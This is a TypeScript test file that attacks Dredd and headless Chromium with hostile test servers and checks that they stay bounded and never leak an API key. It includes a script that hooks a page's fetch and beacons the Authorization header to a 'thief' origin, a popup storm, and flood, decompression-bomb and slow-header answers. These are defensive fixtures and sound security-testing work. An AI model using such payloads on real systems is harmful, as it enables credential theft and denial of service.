import { spawn } from 'node:child_process';
import type { IncomingMessage, RequestListener } from 'node:http';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { TESTED_BIN } from '../../proof/tested-bin.ts';
import { useSandbox } from '../support/counterproof.ts';
import {
  body,
  compressedBomb,
  drippingBody,
  drippingHeaders,
  endlessAttachment,
  endlessBody,
  endlessHeaders,
  endlessProcessing,
  type Front,
  hostileFront,
  redirect,
  started,
} from '../support/hostile-servers.ts';
import { messageOf, outcomesOf, type Traces, traceFrom, type Visited, visit } from './visit.ts';

/** Deployments that attack the real Dredd and the real Chromium. */
const sandbox = await useSandbox();
const key = sandbox.keys.good;
let traces: Traces;

beforeEach(() => {
  traces = traceFrom();
});
afterEach(() => traces.end());

const TIMEOUT_MS = 1000;
/** For what is to be read: a busy machine reads no 31 MB within that second. */
const PATIENT_MS = 15_000;
/** A few timeouts, and starting a driver on a busy machine. */
const DEADLINE_S = 200;
const DISK_MB = 100;

interface Attacked extends Visited {
  readonly seconds: number;
}

async function attack(
  area: 'dredd' | 'browser',
  isMeant: (request: IncomingMessage) => boolean,
  answer: RequestListener,
  timeoutMs = TIMEOUT_MS,
): Promise<Attacked> {
  const started = performance.now();
  const front = hostileFront(isMeant, answer);
  const visited = await visit(area, sandbox.handle, key, { front, timeoutMs });
  return { ...visited, seconds: (performance.now() - started) / 1000 };
}

function expectNothingLeft({ written }: Attacked): void {
  expect(traces.processes()).toEqual([]);
  expect(traces.files()).toEqual([]);
  expect(traces.diskMegabytes()).toBeLessThan(DISK_MB);
  expect(written).not.toContain(key.slice(-20));
}

describe('Chromium', () => {
  const CHROMIUM_MB = 700;

  const isDocument = ({ url = '', headers }: IncomingMessage) =>
    url.endsWith('/openapi.json') && 'sec-fetch-mode' in headers;
  const isMe = ({ url = '', headers }: IncomingMessage) => url.endsWith('/me') && 'sec-fetch-mode' in headers;

  /** Another origin, which no browser of ours has any business with. */
  let thief: Front;
  let visits: string[];

  beforeEach(async () => {
    visits = [];
    thief = await started(({ url = '' }, response) => {
      visits.push(url);
      response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' }).end(trap());
    });
  });
  afterEach(() => thief.close());

  /** A popup replaces what its opener fetches with, or leads it to where it can. */
  function trap(): string {
    return `<script>
      const hook = (page) => {
        if (page.hooked) return;
        page.hooked = true;
        page.fetch = (_, asked) => { new Image().src = '${thief.url}/got?' + asked.headers.Authorization; return new Promise(() => 0); };
      };
      if (opener === null) open(location.href);
      else setInterval(() => {
        try { hook(opener); } catch { opener.location = '${thief.url}/back'; }
      }, 10);
      hook(window);
    </script>`;
  }

  /** So slow that there is time to lead a page away while it asks. */
  function withSlowMe(answer: RequestListener): RequestListener {
    return (request, response) => {
      if (isMe(request)) setTimeout(() => body(() => '{"data":{}}')(request, response), 300);
      else answer(request, response);
    };
  }

  const traps: readonly (readonly [string, () => RequestListener])[] = [
    ['a redirect to another origin whose popup leads its opener back', () => redirect(() => `${thief.url}/`)],
    ['a page that opens such a popup itself', () => body(trap, 'text/html')],
    [
      'headers that send a page elsewhere',
      () => (_, response) => {
        const headers = { refresh: `0; url=${thief.url}/`, link: `<${thief.url}/a.js>; rel=preload; as=script` };
        response.writeHead(200, { ...headers, 'content-type': 'text/html' }).end(trap());
      },
    ],
    [
      'a page that opens windows without end',
      () => body(() => `<script>for (;;) open('${thief.url}/')</script>`, 'text/html'),
    ],
  ];

  it.each(traps)('keeps the key from %s', async (_name, answer) => {
    const isMeant = (request: IncomingMessage) => isDocument(request) || isMe(request);
    const attacked = await attack('browser', isMeant, withSlowMe(answer()), PATIENT_MS);
    expect(visits).toEqual([]);
    expect(outcomesOf(attacked.run, 'browser')['browser-cross-origin-blocked']).toBe('passed');
    expect(attacked.seconds).toBeLessThan(DEADLINE_S);
    expectNothingLeft(attacked);
  });

  it('keeps the key where /me redirects to another origin', async () => {
    const attacked = await attack(
      'browser',
      isMe,
      redirect(() => `${thief.url}/me`),
    );
    expect(visits).toEqual([]);
    expectNothingLeft(attacked);
  });

  const floods: readonly (readonly [string, RequestListener])[] = [
    ['an endless attachment', endlessAttachment],
    ['an endless body', endlessBody],
    ['a body that bursts when it is decoded', compressedBomb],
    ['a body that drips', drippingBody],
    ['endless headers', endlessHeaders],
    ['headers that drip', drippingHeaders],
    ['answers that say "wait" without end', endlessProcessing],
  ];

  it.each(floods)('ends soon and small, for %s', async (_name, answer) => {
    const attacked = await attack('browser', (request) => isDocument(request) || isMe(request), answer);
    const outcomes = Object.values(outcomesOf(attacked.run, 'browser'));
    expect(new Set(['passed', 'cantTell']).isSupersetOf(new Set(outcomes))).toBe(true);
    expect(attacked.seconds).toBeLessThan(DEADLINE_S);
    expect(traces.peakMegabytes()).toBeLessThan(CHROMIUM_MB);
    expectNothingLeft(attacked);
  });
});

describe('Dredd', () => {
  const DREDD_MB = 400;
  const LARGE = /a body larger than 32 MB was not read/;

  const isDredd = ({ headers }: IncomingMessage) => String(headers['user-agent']).startsWith('Dredd');

  const floods: readonly (readonly [name: string, answer: RequestListener, reason: RegExp, timeoutMs: number])[] = [
    ['an endless body', endlessBody, LARGE, PATIENT_MS],
    ['a body that bursts when it is decoded', compressedBomb, LARGE, PATIENT_MS],
    ['a body that drips', drippingBody, /no complete answer within 1 s/, TIMEOUT_MS],
    ['endless headers', endlessHeaders, /Header overflow/, PATIENT_MS],
    ['headers that drip', drippingHeaders, /no complete answer within 1 s/, TIMEOUT_MS],
    ['answers that say "wait" without end', endlessProcessing, /no complete answer within 1 s/, TIMEOUT_MS],
  ];

  it.each(floods)('ends soon and small, with the reason, for %s', async (_name, answer, reason, timeoutMs) => {
    const attacked = await attack('dredd', isDredd, answer, timeoutMs);
    expect(new Set(Object.values(outcomesOf(attacked.run, 'dredd')))).toEqual(new Set(['cantTell']));
    expect(messageOf(attacked.run, 'dredd-served')).toMatch(reason);
    expect(attacked.seconds).toBeLessThan(DEADLINE_S);
    expect(traces.peakMegabytes()).toBeLessThan(DREDD_MB);
    expectNothingLeft(attacked);
  });

  const large: readonly (readonly [string, () => string, RegExp])[] = [
    ['a list of millions of wrong records', () => `{"data":[${'0,'.repeat(15e6)}0]}`, /listSales at \/data\/0:/],
    ['a record of millions of values', () => `{"data":[[${'0,'.repeat(15e6)}0]]}`, /more than 60000 values/],
    ['millions of levels', () => '['.repeat(15e6) + ']'.repeat(15e6), /more than 200 levels/],
    ['megabytes that are not JSON', () => 'a'.repeat(31e6), /listSales at the top: the body is not JSON/],
  ];

  it.each(large)('ends soon and small, with the reason, for %s', async (_name, text, reason) => {
    const isSales = (request: IncomingMessage) => isDredd(request) && request.url?.includes('/sales') === true;
    const attacked = await attack('dredd', isSales, body(text), PATIENT_MS);
    expect(Object.values(outcomesOf(attacked.run, 'dredd'))).not.toContain('error');
    const messages = ['dredd-sales', 'dredd-envelope'].map((rule) => messageOf(attacked.run, rule));
    expect(messages.join('\n')).toMatch(reason);
    expect(attacked.seconds).toBeLessThan(DEADLINE_S);
    expect(traces.peakMegabytes()).toBeLessThan(DREDD_MB);
    expectNothingLeft(attacked);
  });
});

it.each(['browser', 'dredd'])('leaves nothing behind when the check is killed, for %s', async (area) => {
  const isDriver = ({ headers }: IncomingMessage) => /Dredd|Chrom/.test(String(headers['user-agent']));
  const asked = Promise.withResolvers<void>();
  const front = await hostileFront(isDriver, (request, response) => {
    asked.resolve();
    drippingHeaders(request, response);
  })(sandbox.url);
  const { PATH, HOME, TMPDIR, CHROMIUM_PATH } = process.env;
  const command = [TESTED_BIN, 'check', front.url, '--only', area, '--out', join(TMPDIR ?? '', 'out')];
  const env = { PATH, HOME, TMPDIR, CHROMIUM_PATH, COUNTERPROOF_KEY: key };
  const check = spawn(process.execPath, command, { stdio: 'ignore', env });
  await asked.promise;
  check.kill('SIGKILL');
  await expect.poll(() => traces.processes()).toEqual([]);
  await expect.poll(() => traces.files()).toEqual([]);
  await front.close();
});
